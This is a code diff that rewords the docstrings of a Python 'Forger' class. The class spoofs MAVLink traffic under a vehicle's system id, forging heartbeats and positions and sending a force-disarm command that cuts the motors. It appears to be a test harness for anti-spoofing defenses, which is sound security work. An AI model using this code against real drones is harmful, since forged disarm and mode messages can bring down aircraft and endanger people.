@@ -1,4 +1,4 @@
-"""A stranger that sends MAVLink in a vehicle's name from an address of its own, and notes what it receives."""
+"""An attacker that sends MAVLink with a vehicle's system id from its own address, and counts what it receives."""
 
 import socket
 import time
@@ -32,20 +32,20 @@ class Forger:
         return f"{host}:{port}"
 
     def heartbeat(self, port: int, mode: int = POSCTL) -> None:
-        """State another flight mode, in which a pilot has the vehicle."""
+        """Send another flight mode, in which a pilot has control."""
         self._send(mavlink.MAVLink_heartbeat_message(QUADROTOR, PX4, ARMED_CUSTOM, mode, ACTIVE, 3), port)
 
     def position(self, port: int, north_m: float) -> None:
-        """State a position in the vehicle's own frame."""
+        """Send a position in the vehicle's own frame."""
         self._send(mavlink.MAVLink_local_position_ned_message(1000, north_m, 0.0, -5.0, 0.0, 0.0, 0.0), port)
 
     def disarm(self, target: int, port: int) -> None:
-        """Command to cut the motors, at a vehicle's own port."""
+        """Send the command to cut the motors to a vehicle's own port."""
         message = mavlink.MAVLink_command_long_message(target, 1, 400, 0, 0.0, DISARM_FORCE, 0, 0, 0, 0, 0)
         self._send(message, port)
 
     def received(self) -> int:
-        """Return how many datagrams have arrived."""
+        """Return the number of datagrams received."""
         count = 0
         try:
             while True:
